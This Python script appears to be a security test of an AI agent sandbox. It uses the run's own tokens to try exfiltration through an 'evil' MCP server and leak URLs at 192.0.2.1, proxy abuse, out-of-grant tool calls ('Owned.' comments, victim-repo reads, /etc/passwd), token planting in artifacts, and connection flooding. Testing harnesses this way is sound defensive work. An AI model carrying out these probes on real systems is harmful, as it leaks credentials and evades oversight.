"""Uses the run's own tokens past the CLI: at its MCP server, at model-api, and through them. Standard library only."""

import base64
import contextlib
import json
import socket
import sys
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

from attack.programs.own import MODEL, MODEL_TOKEN, SECONDS, TASK_TOKEN, URL, ask, call, tell

BODY: dict[str, Any] = {
    "model": "claude-sonnet-5-5",
    "max_tokens": 5,
    "messages": [{"role": "user", "content": "SCENARIO:text"}],
}
IMAGE = {"type": "image", "source": {"type": "url", "url": "http://192.0.2.1/?leak"}}
DOCUMENT = {"type": "document", "source": {"type": "url", "url": "http://192.0.2.1/leak.pdf"}}
WAYS: dict[str, dict[str, Any]] = {
    "mcp_servers": {"mcp_servers": [{"type": "url", "url": "http://192.0.2.1/", "name": "evil"}]},
    "web_fetch": {"tools": [{"type": "web_fetch_20250910", "name": "web_fetch"}]},
    "web_search": {"tools": [{"type": "web_search_20250305", "name": "web_search"}]},
    "code_execution": {"tools": [{"type": "code_execution_20250825", "name": "code_execution"}]},
    "image url": {"messages": [{"role": "user", "content": [IMAGE]}]},
    "document url": {"messages": [{"role": "user", "content": [DOCUMENT]}]},
    "file": {
        "messages": [{"role": "user", "content": [{"type": "image", "source": {"type": "file", "file_id": "f"}}]}]
    },
    "container": {"container": "c"},
    "other model": {"model": "claude-opus-4-1"},
    "service tier": {"service_tier": "priority"},
}
PATHS = (
    ("POST", "/v1/messages/batches"),
    ("GET", "/v1/files"),
    ("POST", "/v1/files"),
    ("GET", "/v1/models"),
    ("POST", "/v1/complete"),
    ("GET", "/v1/organizations/api_keys"),
    ("POST", "/v1/messages/../files"),
    ("POST", "//192.0.2.1/v1/messages"),
)


def model() -> None:
    """Ask the model in ways that lead out of the house."""
    version = {"anthropic-version": "2023-06-01", "x-api-key": MODEL_TOKEN}
    for name, change in WAYS.items():
        status, text = ask(MODEL, "POST", "/v1/messages", headers=version, document={**BODY, **change})
        tell(name, f"{status} {text[:150]}")
    for beta in ("files-api-2025-04-14", "mcp-client-2025-04-04", "code-execution-2025-05-22"):
        status, text = ask(MODEL, "POST", "/v1/messages", headers={**version, "anthropic-beta": beta}, document=BODY)
        tell(f"beta {beta}", f"{status} {text[:150]}")
    for method, path in PATHS:
        status, text = ask(MODEL, method, path, headers=version, document=BODY if method == "POST" else None)
        tell(f"{method} {path}", f"{status} {text[:100]}")
    status, text = ask(MODEL, "POST", "/v1/messages", headers={**version, "x-api-key": TASK_TOKEN}, document=BODY)
    tell("task token at the model", f"{status} {text[:100]}")
    tell("model", "all")


def proxy() -> None:
    """Use the openings as proxies, and with other hosts' names."""
    for address in (URL, MODEL):
        for head in (
            "CONNECT 192.0.2.1:80 HTTP/1.1\r\nHost: 192.0.2.1:80",
            "GET http://192.0.2.1/ HTTP/1.1\r\nHost: 192.0.2.1",
            "GET /v1/tasks HTTP/1.1\r\nHost: control",
            "GET /ready HTTP/1.1\r\nHost: 192.0.2.1",
        ):
            with socket.create_connection((str(address.hostname), address.port or 80), timeout=5) as connection:
                connection.sendall(f"{head}\r\nConnection: close\r\n\r\n".encode())
                connection.settimeout(5)
                try:
                    said = connection.recv(300)
                except OSError as error:
                    said = type(error).__name__.encode()
            tell(head.split("\r\n")[0], said.split(b"\r\n")[0].decode("latin-1"))
    tell("proxy", "all")


def tools(repository: str, victim: str) -> None:
    """Call tools outside the grant with the run's own token, which no CLI holds back."""
    for tool, arguments in (
        ("add_issue_comment", {"repository": repository, "issue": 1, "body": "Owned."}),
        ("issue_write", {"repository": repository, "method": "create", "title": "Owned"}),
        ("get_file_contents", {"repository": repository, "path": "README.md"}),
        ("issue_read", {"repository": victim, "issue": 1}),
        ("issue_read", {"repository": "acme/*", "issue": 1}),
        ("issue_read", {"repository": f"{repository}/../{victim.partition('/')[2]}", "issue": 1}),
        ("issue_read", {"repository": [victim], "issue": 1}),
        ("issue_read", {"repository": repository, "issue": 1, "owner": "acme", "repo": victim}),
        ("tools/list", {}),
    ):
        came, text = call(tool, arguments)
        tell(f"{tool} {json.dumps(arguments)}", f"{came}: {text[:200]}")
    for method in ("resources/list", "prompts/list", "resources/read", "completion/complete", "logging/setLevel"):
        document = {
            "jsonrpc": "2.0",
            "id": 1,
            "method": method,
            "params": {"uri": "file:///etc/passwd", "level": "debug"},
        }
        status, text = ask(URL, "POST", "/mcp", document=document, token=TASK_TOKEN)
        tell(method, f"{status}: {text[:200]}")
    tell("tools", "all")


def tokens() -> None:
    """Print the run's own tokens."""
    print(json.dumps({"task": TASK_TOKEN, "model": MODEL_TOKEN}))


def pieces() -> None:
    """Print what the model's token says as plain JSON, and its signature in pieces."""
    _, payload, signature = MODEL_TOKEN.split(".")
    cut = " then ".join(signature[start : start + 22] for start in range(0, 66, 22))
    print(json.dumps({"payload": base64.urlsafe_b64decode(payload + "==").decode(), "signature": cut}))


def artifacts() -> None:
    """Leave the run's own tokens in files that are no text, and in names."""
    folder = Path("/work/artifacts")
    folder.mkdir()
    signatures = [token.rpartition(".")[2] for token in (TASK_TOKEN, MODEL_TOKEN)]
    (folder / "raw").write_bytes(f"LEFT {TASK_TOKEN} LEFT {MODEL_TOKEN}".encode() + b"\xff")
    (folder / "signatures").write_bytes(b"\xff" + " LEFT ".join(["", *signatures]).encode())
    for signature in signatures:
        (folder / f"name-{signature}").write_text("named")
    tell("artifacts", "left")


def ref(repository: str) -> None:
    """Get a true ref past the CLI, of which no event tells."""
    came, text = call("list_labels", {"repository": repository})
    tell("ref", f"{came} {text.rpartition('ref: ')[2]}")


def connections(count: str) -> None:
    """Open connections to model-api, hold them all, and count those that are answered."""
    held = []
    for _ in range(int(count)):
        with contextlib.suppress(OSError):
            held.append(socket.create_connection((str(MODEL.hostname), MODEL.port or 80), timeout=SECONDS))
            held[-1].sendall(b"GET /health HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")
    time.sleep(3)
    answered = 0
    for connection in held:
        connection.setblocking(False)
        with contextlib.suppress(OSError):
            answered += bool(connection.recv(100))
    tell("connections", f"{answered} of {count} answered")


def main(what: str, *arguments: str) -> None:
    """Do one of it."""
    ways: dict[str, Callable[..., None]] = {
        "model": model,
        "proxy": proxy,
        "tools": tools,
        "tokens": tokens,
        "pieces": pieces,
        "artifacts": artifacts,
        "ref": ref,
        "connections": connections,
    }
    ways[what](*arguments)


if __name__ == "__main__":
    main(*sys.argv[1:])
